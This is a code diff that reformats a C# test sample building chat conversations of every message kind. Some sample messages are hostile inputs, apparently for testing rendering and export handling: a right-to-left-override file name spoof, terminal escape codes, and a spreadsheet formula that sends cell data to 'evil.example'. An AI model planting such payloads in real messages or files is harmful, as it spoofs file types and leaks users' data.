@@ -29,13 +29,15 @@ internal static class EveryKindSample
         };
 
     private static IEnumerable<Action<ConversationBuilder>> Texts(Person account, Person other) =>
-    [
-        // The umlauts make offsets in bytes, in characters and in code points different.
-        builder => builder.Say(other, $"Grüße, @{account.Username}! Übersicht 📈: https://status.example.com/dashboard#today #betrieb"),
-        builder => builder.Say(other, "The file is invoice\u202Efdp.exe \u001B[31mopen it\u001B[0m \u2067now\u2069\u0007"),
-        builder => builder.Say(other, "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click me\")"),
-        builder => builder.Forward(account, "FYI, from the vendor: maintenance on Sunday, see https://vendor.example.com/notice #maintenance"),
-    ];
+        [
+            // The umlauts make offsets in bytes, in characters and in code points different.
+            builder =>
+                builder.Say(other, $"Grüße, @{account.Username}! Übersicht 📈: https://status.example.com/dashboard#today #betrieb"),
+            builder => builder.Say(other, "The file is invoice\u202Efdp.exe \u001B[31mopen it\u001B[0m \u2067now\u2069\u0007"),
+            builder => builder.Say(other, "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click me\")"),
+            builder =>
+                builder.Forward(account, "FYI, from the vendor: maintenance on Sunday, see https://vendor.example.com/notice #maintenance"),
+        ];
 
     private static IEnumerable<Action<ConversationBuilder>> Attachments(Person account, Person other) =>
     [
@@ -114,10 +116,12 @@ internal static class EveryKindSample
             builder => last = builder.Say(other, "Good night \U0001F319"),
             builder => builder.MarkRead(account, last!),
             builder => builder.Add(account, ChatDetails.MarkUnread(last!.IdText)),
-            builder => builder.Add(account, ChatDetails.ConversationDelete(builder.SignedId, clearsAllMessages: false, builder.Milliseconds)),
+            builder =>
+                builder.Add(account, ChatDetails.ConversationDelete(builder.SignedId, clearsAllMessages: false, builder.Milliseconds)),
             builder => builder.Add(account, ChatDetails.Failure(ChatFailureType.RateLimitUpsell, rateLimitTier: 1)),
             builder => builder.Add(other, ChatDetails.GrokResponse("The window is from 22:00 to 24:00.")),
-            builder => builder.Add(other, ChatDetails.Of(FutureEvent, new ThriftStruct().Add(1, "A kind of event that does not exist yet"))),
+            builder =>
+                builder.Add(other, ChatDetails.Of(FutureEvent, new ThriftStruct().Add(1, "A kind of event that does not exist yet"))),
         ];
     }
 }
